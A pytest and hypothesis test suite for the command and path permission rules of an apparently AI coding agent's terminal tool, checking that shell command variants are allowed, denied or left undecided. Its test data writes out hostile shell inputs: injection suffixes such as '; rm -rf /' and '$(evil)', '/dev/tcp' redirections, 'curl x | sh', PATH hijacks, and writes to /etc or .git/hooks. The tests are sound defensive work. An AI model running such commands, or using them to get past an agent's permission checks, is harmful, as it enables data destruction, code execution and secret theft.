"""What rules allow, deny and leave undecided, and which rules can be granted."""

import shlex
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kimi_tui.base.errors import ConfigError
from kimi_tui.permission.rule import parse_rule
from kimi_tui.permission.rule_set import RuleSet
from kimi_tui.permission.subject import McpSubject, PathSubject
from tests.tools.recording_bash import RecordingBash
from tests.tools.rule_sets import build_rule_set, grant_for, verdict_on

WORK_DIR = Path("/work-dir")


def build_rules(*allow: str, ask: tuple[str, ...] = (), deny: tuple[str, ...] = ()) -> RuleSet:
    return build_rule_set(allow=allow, ask=ask, deny=deny, work_dir=WORK_DIR)


def verdict(rules: RuleSet, command: str) -> str | None:
    return verdict_on(rules, command)


def grant(command: str, *allow: str) -> list[str]:
    return [str(rule) for rule in grant_for(build_rules(*allow), command)]


@pytest.mark.parametrize(
    ("rules", "command"),
    [
        (["Bash(pytest *)"], "pytest"),
        (["Bash(pytest *)"], "pytest -x 'tests/a b.py'"),
        (["Bash(pytest *)"], "  pytest -x  # quickly"),
        (["Bash(pytest *)"], "pytest tests/*.py 2>&1 >/dev/null"),
        (["Bash(pytest *)"], "CI=1 timeout 60 pytest"),
        (["Bash(pytest *)"], "bash -c 'pytest -x'"),
        (["Bash(A=1 pytest *)"], "A=1 pytest -x"),
        (["Bash(git diff *)"], "git diff HEAD~1 -- a.py"),
        (["Bash(pytest *)", "Bash(head *)"], "pytest | head -5"),
        (["Bash(cd *)", "Bash(pytest *)"], "cd tests && pytest"),
        (["Bash(echo *)", "Bash(git diff *)"], "echo $(git diff) $HOME"),
        (["Bash(echo *)"], "for f in a b; do echo $f; done"),
        (["Bash(pytest *)", "Edit(out/**)"], "pytest > out/log 2> out/errors"),
        (["Bash(pytest *)", "Edit(/logs/**)"], "pytest > /logs/a"),
        (["Bash(find *)", "Bash(grep *)"], "find . -name '*.py' -exec grep x {} +"),
        (["Bash(make test)"], "make test && make test"),
        (["Bash(rm -rf build)"], "rm -rf build"),
        (["Bash(case a in a) b;; esac)"], "case a in a) b;; esac"),
        (["Bash(cp *)"], "cp a b/c"),
        (["Bash(cp *)"], "cp -at b c"),
        (["Bash(sort *)"], "sort -u a b"),
        (["Bash(tar *)"], "tar xzf downloads/a.tgz -C b"),
        (["Bash(tar *)"], "tar czf a.tgz b"),
        (["Bash(gcc *)"], "gcc -O2 -Wall -I/usr/include/foo -o a /usr/src/a.c"),
        (["Bash(git commit *)", "Bash(cat *)"], "git commit -m \"$(cat <<'E'\nfix: don't\nE\n)\""),
        (["Bash(source .venv/bin/activate)", "Bash(pytest *)"], "source .venv/bin/activate && pytest -x"),
        (["Bash(sed -n *)"], "sed -n 1,5p a.py b.py"),
        (["Bash(set *)", "Bash(pytest *)"], "set -euo pipefail\npytest"),
    ],
)
def test_a_command_that_rules_cover_is_allowed(rules: list[str], command: str) -> None:
    assert verdict(build_rules(*rules), command) == "allow"


@pytest.mark.parametrize(
    ("rules", "command"),
    [
        (["Bash(pytest *)"], ""),
        (["Bash(pytest *)"], "pytests"),
        (["Bash(pytest *)"], "/tmp/pytest"),
        (["Bash(git diff *)"], "git push"),
        (["Bash(git diff *)"], "git"),
        (["Bash(git diff *)"], "git diff --output=../x"),
        (["Bash(git commit *)"], "git commit -m $x"),
        (["Bash(git commit *)"], 'git commit -a "$x"'),
        (["Bash(git diff *)"], 'git diff -m "$x"'),
        (["Bash(git grep *)"], "git grep -Ovi x"),
        (["Bash(git fetch *)"], "git fetch --upload-pa=evil"),
        (["Bash(pytest *)"], "pytest $x"),
        (["Bash(pytest *)"], 'pytest "tests/$name.py"'),
        (["Bash(sort *)"], "sort -uo a b"),
        (["Bash(tar *)"], "tar xzf /downloads/a.tgz -C b"),
        (["Bash(pytest *)"], "pytest *"),
        (["Bash(pytest *)"], "PATH=/evil pytest"),
        (["Bash(pytest *)"], "PATH=/evil; pytest"),
        (["Bash(A=1 pytest *)"], "A=2 pytest"),
        (["Bash(A=1 pytest *)"], "A=1 B=2 pytest"),
        (["Bash(pytest *)"], "for PATH in /evil; do pytest; done"),
        (["Bash(pytest *)", "Bash(cd *)"], "cd /elsewhere && pytest"),
        (["Bash(pytest *)", "Bash(cd *)"], "cd .. && pytest"),
        (["Bash(./run *)", "Bash(cd *)"], "cd sub && ./run"),
        (["Bash(pytest *)", "Bash(head *)"], "pytest | tail"),
        (["Bash(echo *)"], "echo $(pytest)"),
        (["Bash(echo *)"], "echo <(pytest)"),
        (["Bash(echo *)"], "$(echo pytest)"),
        (["Bash(echo *)"], "e{cho,vil} a"),
        (["Bash(pytest *)"], "pytest > log"),
        (["Bash(pytest *)", "Edit(out/**)"], "pytest > out/../log"),
        (["Bash(pytest *)", "Edit(**)"], "pytest > $log"),
        (["Bash(pytest *)", "Edit(**)"], "pytest > .git/hooks/pre-commit"),
        (["Bash(pytest *)", "Edit(**)"], "cd $x; pytest > log"),
        (["Bash(find *)"], "find . -exec rm {} +"),
        (["Bash(find *)"], "find . -delete"),
        (["Bash(find *)"], "find . -fprint /etc/x"),
        (["Bash(xargs-free *)"], "echo a | xargs xargs-free"),
        (["Bash(make test *)"], "make test deploy"),
        (["Bash(make test *)"], "make test SHELL=evil"),
        (["Bash(make test *)"], "DEBUG='$(shell evil)' make test"),
        (["Bash(make test *)"], "TERM='$(shell evil)'; make test"),
        (["Bash(make test *)"], "python=./evil make test"),
        (["Bash(make test *)"], "env cc=./evil make test"),
        (["Bash(make test *)", "Bash(read *)"], "read -r TERM < a; make test"),
        (["Bash(sed -n *)"], "sed -n '1e evil' a"),
        (["Bash(sed -n *)"], "sed -n 'w a' b"),
        (["Bash(set *)"], "set -- a"),
        (["Bash(set *)"], "set -o history"),
        (["Bash(printf *)"], "printf -v 'a[$(evil)]' b"),
        (["Bash(printf *)"], "printf %n PATH"),
        (["Bash(printf *)"], 'x=%n; printf "$x" PATH'),
        (["Bash(test *)"], "test -v 'a[$(evil)]'"),
        (["Bash(read *)"], "read 'a[$(evil)]'"),
        (["Bash(rm *)"], "rm -rf build"),
        (["Bash(rm *)"], "rm -r -f build"),
        (["Bash(rm *)"], "rm ../a"),
        (["Bash(rm *)"], "rm $x"),
        (["Bash(cp *)"], "cp a /etc/a"),
        (["Bash(cp *)", "Bash(ln *)"], "ln -s /etc a && cp b a/c"),
        (["Bash(npm run test *)"], "npm_config_script_shell=evil npm run test"),
        (["Bash(npm run test *)"], "npm run test --prefix /evil"),
        (["Bash(cargo test *)"], "cargo test --manifest-path=/evil/Cargo.toml"),
        (["Bash(cp *)"], 'cp a "b/$x"'),
        (["Bash(cp *)"], "cp -t/etc a"),
        (["Bash(git push *)"], "git push --force"),
        (["Bash(sort *)"], "sort -o/etc/a b"),
        (["Bash(sort *)"], "sort -uo /etc/a b"),
        (["Bash(sort *)"], "sort -uo/etc/a b"),
        (["Bash(sort *)"], "sort --o=/etc/a b"),
        (["Bash(sort *)"], "sort --outp /etc/a b"),
        (["Bash(sort *)"], "sort --co=evil b"),
        (["Bash(sort *)"], "sort -T /etc b"),
        (["Bash(curl *)"], "curl -sSLo /etc/a x"),
        (["Bash(wget *)"], "wget -qO /etc/a x"),
        (["Bash(cp *)"], "cp -at /etc b"),
        (["Bash(cp *)"], "cp --targ /etc b"),
        (["Bash(install *)"], "install -Dt /etc b"),
        (["Bash(git log *)"], "git log --outpu /etc/a"),
        (["Bash(git archive *)"], "git archive -vo /etc/a HEAD"),
        (["Bash(tar *)"], "tar xfC a /etc"),
        (["Bash(tar *)"], "tar -xC /etc -f a"),
        (["Bash(tar *)"], "tar cf /etc/a ."),
        (["Bash(tar *)"], "tar -czf /etc/a ."),
        (["Bash(tar *)"], "tar --create --file /etc/a ."),
        (["Bash(tar *)"], "tar -c -Xt -f /etc/a ."),
        (["Bash(tar *)"], "tar -xPf a"),
        (["Bash(zip *)"], "zip /etc/a b"),
        (["Bash(split *)"], "split --filter=evil a"),
        (["Bash(diff3 *)"], "diff3 --diff-program=evil a b c"),
        (["Bash(gcc *)"], "gcc -wrapper evil a.c"),
        (["Bash(gcc *)"], "gcc -fplugin=./evil.so a.c"),
        (["Bash(date *)"], "date -s tomorrow"),
        (["Bash(cat *)"], "cat < /dev/tcp/$(cat a)/80"),
        (["Bash(cat *)"], "f=/dev/tcp/a/80; cat < $f"),
        (["Bash(tar *)"], "tar --checkpoint-action=exec=evil -xf a"),
        (["Bash(rm -rf build)"], "cd a && rm -rf build"),
        (["Bash(python -c 'a')"], "cd a && python -c a"),
        (["Bash(bash)"], "bash < a"),
        (["Bash(export A=1)", "Bash(pytest *)"], "export A=1 && pytest"),
        (["Bash(case a in a) b;; esac)"], "case a in a) c;; esac"),
        (["Bash(pytest *)"], "pytest() { evil; }; pytest"),
        (["Bash(pytest *)"], "cat < /dev/tcp/evil/1 | pytest"),
    ],
)
def test_a_command_that_rules_do_not_cover_is_undecided(rules: list[str], command: str) -> None:
    assert verdict(build_rules(*rules), command) is None


GRANTED = [
    "pytest",
    "pytest -x",
    "git diff",
    "npm run test",
    "echo",
    "make test",
    "python -m pytest",
    "cat a",
]
ADDITIONS = [
    "; rm -rf /", " && evil", " || evil", " | sh", " | evil", " |& evil", " & evil", "\nevil", "\n\nevil",
    " > file", " >> file", " >| file", " &> file", " >& file", " 2> file", " <> file", " $(evil)",
    ' "$(evil)"', " `evil`", " <(evil)", " >(evil)", " x$(evil)", " 'x'\"`evil`\"", "; $(evil)", "; $x",
    " && e'v'il", " && \\evil", " && ${x:-evil}", " <<E\n$(evil)\nE", " <<E\nE\nevil", " # a\nevil",
    "; (evil)", "; { evil; }", "; if evil; then a; fi", "; for x in $(evil); do a; done", " && env evil",
    " && timeout 5 evil", " && sudo evil", " && bash -c evil", " | xargs evil", " && eval evil",
    " && command evil", " && exec evil", "; evil() { a; }", "; ! evil", "; time evil", " \\\n; evil",
    " ; 'evil'", " $((x[$(evil)]))", " ${x[$(evil)]}", " >& '$(evil)'", "; . ./evil", "; source evil",
    "; PATH=/evil", "; trap evil EXIT", "; alias a=evil",
]  # fmt: skip
PLAIN_WORDS = st.lists(st.from_regex(r"[a-z][a-z0-9 /'\"$;|&<>`()*-]*", fullmatch=True), max_size=3)


@given(st.sampled_from(GRANTED), PLAIN_WORDS, st.sampled_from(ADDITIONS))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_grant_covers_no_further_commands(command: str, words: list[str], addition: str) -> None:
    rules = build_rules().with_allowed(*grant_for(build_rules(), command))
    assert verdict(rules, command) == "allow"
    runs_words = "pytest" in command or command.startswith(("make", "npm"))
    longer = command if runs_words else " ".join((command, *map(shlex.quote, words)))
    assert verdict(rules, longer) == "allow"
    assert verdict(rules, longer + addition) is None


@pytest.fixture(scope="module")
def bash(tmp_path_factory: pytest.TempPathFactory) -> RecordingBash:
    return RecordingBash(tmp_path_factory.mktemp("bash"))


NOISE = st.lists(
    st.sampled_from([*" \n;|&()<>$`'\"\\{}#!=,*", "evil", "$(", "x", "<<E\n", "\nE\n"]), max_size=9
)


@given(st.sampled_from(GRANTED), NOISE.map("".join))
@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_bash_runs_only_the_granted_program_of_an_allowed_line(
    bash: RecordingBash, command: str, noise: str
) -> None:
    rules = build_rules().with_allowed(*grant_for(build_rules(), command))
    if verdict(rules, command + noise) == "allow":
        assert bash.executed_programs(command + noise) <= {command.split()[0]}


@pytest.mark.parametrize(
    ("command", "rules"),
    [
        ("pytest -x tests", ["Bash(pytest *)"]),
        ("git diff HEAD", ["Bash(git diff *)"]),
        ("git stash pop", ["Bash(git stash pop *)"]),
        ("git stash", ["Bash(git stash)"]),
        ("npm run test", ["Bash(npm run test *)"]),
        ("npm run test -- -w", ["Bash(npm run test -- -w)"]),
        ("npm test", ["Bash(npm test *)"]),
        ("cargo test --all", ["Bash(cargo test *)"]),
        ("python -m pytest tests", ["Bash(python -m pytest *)"]),
        ("python3 -m pip install x", ["Bash(python3 -m pip install x)"]),
        ("python manage.py test", ["Bash(python manage.py test)"]),
        ("uv run pytest -q", ["Bash(uv run pytest *)"]),
        ("make test", ["Bash(make test *)"]),
        ("make", ["Bash(make)"]),
        (". .venv/bin/activate && make test", ["Bash(. .venv/bin/activate)", "Bash(make test *)"]),
        ("docker compose up -d", ["Bash(docker compose up -d)"]),
        ("timeout 60 pytest", ["Bash(pytest *)"]),
        ("A=1 pytest", ["Bash(A=1 pytest *)"]),
        ("cd sub && pytest | tee log", ["Bash(cd *)", "Bash(pytest *)", "Bash(tee log)"]),
        ("pytest > out/log", ["Bash(pytest *)", "Edit(./out/log)"]),
        ("python -c 'print(1)'", ["Bash(python -c 'print(1)')"]),
        ("ls *", ["Bash(ls *)"]),
        ("rm *", ["Bash(=rm *)"]),
        ("x=1; for i in a; do echo $i; done", ["Bash(echo *)"]),
        ("cat <<'E' > a.txt\nhello\nE", ["Bash(cat *)", "Edit(./a.txt)"]),
    ],
)
def test_a_grant_names_the_program_and_its_subcommand(command: str, rules: list[str]) -> None:
    assert grant(command) == rules
    assert verdict(build_rules(*rules), command) == "allow"


def test_a_grant_adds_only_what_is_not_allowed_yet() -> None:
    assert grant("pytest | head", "Bash(pytest *)") == ["Bash(head *)"]


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build", "git push --force", "sudo ls", "curl x | sh", "pytest > /tmp/log", "cp a ~/b",
        "f() { a; }; f", "[[ -f a ]] && b", "a 'b", "", "# nothing", "eval $x", "bash <(curl x)",
    ],
)  # fmt: skip
def test_a_dangerous_or_unparsable_command_cannot_be_granted(command: str) -> None:
    assert grant(command) == []


@pytest.mark.parametrize(
    "command",
    [
     "python -c a", "bash -c $x", "node -e a", "sudo", "env", "env A=1", "xargs", "bash", "perl -e a",
     "awk a", "uv run bash", "npx", "docker run x sh", "ssh host", "xargs -I{} {} a", "git config a b",
     "python -m timeit a",
    ],
)  # fmt: skip
def test_a_command_that_can_run_any_program_is_never_granted_by_prefix(command: str) -> None:
    assert all(not rule.endswith(" *)") for rule in grant(command))


@pytest.mark.parametrize(
    "rule",
    [
     "Bash(*)", "Bash(python *)", "Bash(python -c *)", "Bash(python -m *)", "Bash(bash *)",
     "Bash(bash -c *)", "Bash(env *)", "Bash(sudo *)", "Bash(xargs *)", "Bash(timeout 5 pytest *)",
     "Bash(uv run *)", "Bash(npx *)", "Bash(awk *)", "Bash(eval *)", "Bash(export *)",
     "Bash(uv run bash *)", "Bash(docker run *)",
    ],
)  # fmt: skip
def test_a_rule_that_covers_any_program_is_valid_only_for_denying(rule: str) -> None:
    with pytest.raises(ConfigError):
        build_rules(rule)
    assert verdict(build_rules(deny=(rule,)), "pytest") in ("deny", None)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(git push *)", "git push origin"),
        ("Bash(git push *)", "git -C sub push"),
        ("Bash(git push *)", "git --no-pager push"),
        ("Bash(git push *)", "ls && git push"),
        ("Bash(git push *)", "echo $(git push)"),
        ("Bash(git push *)", "sudo -u me git push"),
        ("Bash(git push *)", "env A=1 git push"),
        ("Bash(git push *)", "bash -c 'git push'"),
        ("Bash(git push *)", 'bash -c "git push $x"'),
        ("Bash(git push *)", "eval 'git push'"),
        ("Bash(git push *)", "bash <<E\ngit push\nE"),
        ("Bash(git push *)", "f() { git push; }; f"),
        ("Bash(git push *)", "/usr/bin/git push"),
        ("Bash(git push *)", "ls | xargs git push"),
        ("Bash(rm -rf *)", "rm -fr a"),
        ("Bash(rm -rf *)", "rm a -r -v -f"),
        ("Bash(rm -rf *)", "rm --recursive --force a"),
        ("Bash(rm -rf *)", "find . -exec rm -rf {} +"),
        ("Bash(timeout *)", "timeout 5 ls"),
        ("Bash(make)", "cd a; make"),
        ("Bash(*)", "ls"),
        ("Edit(.env)", "echo a > .env"),
        ("Edit(.env)", "echo a | tee sub/.env"),
        ("Edit(secrets/**)", "cp a secrets/b"),
        ("Edit(.env)", "mv .ENV a"),
        ("Read(.env)", "cat .env"),
        ("Read(.env)", "cat < .env"),
    ],
)
def test_a_deny_rule_applies_wherever_the_command_is_hidden(rule: str, command: str) -> None:
    assert verdict(build_rules("Bash(ls *)", "Bash(cat *)", deny=(rule,)), command) == "deny"


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(git push *)", "git log push"),
        ("Bash(git push *)", "git commit -m 'git push'"),
        ("Bash(git push *)", "git pull"),
        ("Bash(rm -rf *)", "rm a"),
        ("Bash(make)", "make test"),
        ("Edit(.env)", "cat .env"),
        ("Read(.env)", "cat env"),
    ],
)
def test_a_deny_rule_does_not_apply_to_similar_commands(rule: str, command: str) -> None:
    assert verdict(build_rules(deny=(rule,)), command) is None


@pytest.mark.parametrize(
    "command", ["$x push", "git $x", "a() { b; }; a", "{git,push}", "bash -c $x", "rm $x -r"]
)
def test_a_command_that_may_run_a_denied_one_needs_approval(command: str) -> None:
    rules = build_rules(f"Bash(={command})", deny=("Bash(git push *)", "Bash(rm -rf *)"))
    assert verdict(rules, command) == "ask"


def test_deny_wins_over_ask_and_ask_over_allow() -> None:
    rules = build_rules(
        "Bash(git push *)", "Bash(ls *)", ask=("Bash(git push *)",), deny=("Bash(git push evil *)",)
    )
    assert verdict(rules, "git push evil") == "deny"
    assert verdict(rules, "git push") == "ask"
    assert verdict(rules, "ls && git push") == "ask"
    assert verdict(rules, "ls") == "allow"
    assert grant_for(rules, "git push") == ()


def path_verdict(rules: RuleSet, path: str, *, writes: bool = True) -> str | None:
    return verdict_on(rules, PathSubject(Path(path), writes))


def test_edits_are_allowed_by_path_pattern() -> None:
    rules = build_rules("Edit(src/**)", "Edit(/notes/**)")
    assert path_verdict(rules, "/work-dir/src/a.py") == "allow"
    assert path_verdict(rules, "/notes/deep/a.md") == "allow"
    assert path_verdict(rules, "/work-dir/a.py") is None
    assert path_verdict(rules, "/src/a.py") is None
    assert path_verdict(rules, "/work-dir/src/a.py", writes=False) is None


def test_a_read_rule_does_not_allow_writing() -> None:
    rules = build_rules("Read(.env)")
    assert path_verdict(rules, "/work-dir/.env", writes=False) == "allow"
    assert path_verdict(rules, "/work-dir/.env") is None


def test_a_deny_rule_for_a_path_ignores_case() -> None:
    rules = build_rules("Edit(**)", deny=("Edit(*.lock)",))
    assert path_verdict(rules, "/work-dir/a.LOCK") == "deny"
    assert path_verdict(rules, "/work-dir/a.py") == "allow"


@pytest.mark.parametrize("path", [".git/config", ".git/hooks/pre-commit", ".kimi-tui/config.toml"])
def test_a_protected_file_needs_a_rule_with_its_exact_path(path: str) -> None:
    assert path_verdict(build_rules("Edit(**)", f"Edit({Path(path).parent}/*)"), f"/work-dir/{path}") is None
    assert path_verdict(build_rules(f"Edit(./{path})"), f"/work-dir/{path}") == "allow"


@pytest.mark.parametrize(
    ("path", "writes", "rules"),
    [
        ("/work-dir/src/auth/a.py", True, ["Edit(./src/auth/a.py)"]),
        ("/work-dir/a.py", True, ["Edit(./a.py)"]),
        ("/work-dir/a[1] #b/c.py", True, ["Edit(./a\\[1\\] \\#b/c.py)"]),
        ("/work-dir/.env", False, ["Read(./.env)"]),
        ("/home/me/.aws/credentials", False, ["Read(/home/me/.aws/credentials)"]),
        ("/etc/hosts", True, []),
        ("/work-dir/.git/config", True, []),
        ("/work-dir", True, []),
    ],
)
def test_a_file_is_granted_by_itself(path: str, writes: bool, rules: list[str]) -> None:
    subject = PathSubject(Path(path), writes)
    proposed = grant_for(build_rules(), subject)
    assert [str(rule) for rule in proposed] == rules
    if proposed:
        assert verdict_on(build_rules(*rules), subject) == "allow"


def test_an_added_folder_is_treated_like_the_working_directory() -> None:
    rules = RuleSet(work_dir=WORK_DIR, additional_dirs=(Path("/added"),))
    proposed = grant_for(rules, PathSubject(Path("/added/src/a.py")))
    assert [str(rule) for rule in proposed] == ["Edit(/added/src/a.py)"]
    assert verdict_on(rules.with_allowed(parse_rule("Bash(cp *)")), "cp a /added/b") == "allow"


def test_mcp_tools_are_granted_one_by_one_and_allowed_by_server() -> None:
    subject = McpSubject("files", "search")
    assert [str(rule) for rule in grant_for(build_rules(), subject)] == ["MCP(files:search)"]
    assert verdict_on(build_rules("MCP(files:*)"), subject) == "allow"
    assert verdict_on(build_rules("MCP(files:search)"), McpSubject("files", "delete")) is None
    assert verdict_on(build_rules("MCP(files:*)", deny=("MCP(files:search)",)), subject) == "deny"


def test_links_out_of_the_working_directory_are_followed(tmp_path: Path) -> None:
    work_dir = tmp_path / "work"
    (work_dir / "src").mkdir(parents=True)
    (work_dir / "link").symlink_to(tmp_path)
    rules = build_rule_set(allow=["Bash(cp *)", "Bash(echo *)", "Edit(**)"], work_dir=work_dir)
    assert verdict(rules, "cp a src/b") == "allow"
    assert verdict(rules, "cp a link/b") is None
    assert verdict(rules, "echo a > link/b") is None


def test_adding_a_rule_returns_a_new_rule_set() -> None:
    old = build_rules()
    new = old.with_allowed(parse_rule("Bash(ls *)"), parse_rule("Bash(ls *)"))
    assert (verdict(old, "ls"), verdict(new, "ls")) == (None, "allow")
    assert len(new.allow) == 1


@pytest.mark.parametrize(
    ("granted", "next_path", "rules"),
    [
        ("src/a.py", "src/b.py", ["Edit(src/**)"]),
        ("src/a.py", "src/sub/b.py", ["Edit(./src/sub/b.py)"]),
        ("src/a.py", "lib/b.py", ["Edit(./lib/b.py)"]),
        ("a.py", "b.py", ["Edit(./b.py)"]),
        ("src/[a].py", "src/b.py", ["Edit(src/**)"]),
    ],
)
def test_the_next_file_in_a_folder_is_granted_with_the_folder(
    granted: str, next_path: str, rules: list[str]
) -> None:
    rule_set = build_rules()
    rule_set = rule_set.with_allowed(*grant_for(rule_set, PathSubject(WORK_DIR / granted)))
    proposed = grant_for(rule_set, PathSubject(WORK_DIR / next_path))
    assert [str(rule) for rule in proposed] == rules
